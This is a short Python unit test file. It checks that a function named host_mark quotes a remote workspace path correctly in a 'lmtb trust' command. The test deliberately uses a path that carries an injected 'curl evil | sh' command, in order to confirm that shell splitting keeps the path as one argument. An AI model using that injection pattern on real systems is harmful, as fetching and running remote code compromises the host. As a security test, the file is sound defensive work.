"""The mark of workspaces on other hosts."""

from __future__ import annotations

import shlex

from manager.routing.discovery.host_mark import host_mark


def test_the_command_of_the_mark_names_one_folder_whatever_it_is_called() -> None:
    root = "ssh://build/srv/a; curl evil | sh 'x"
    said = host_mark("ssh://build", root)
    command = said.partition("the user with: ")[2]
    assert shlex.split(command) == ["lmtb", "trust", root]
    assert host_mark("ssh://build", "ssh://build/srv/app").endswith("lmtb trust ssh://build/srv/app")
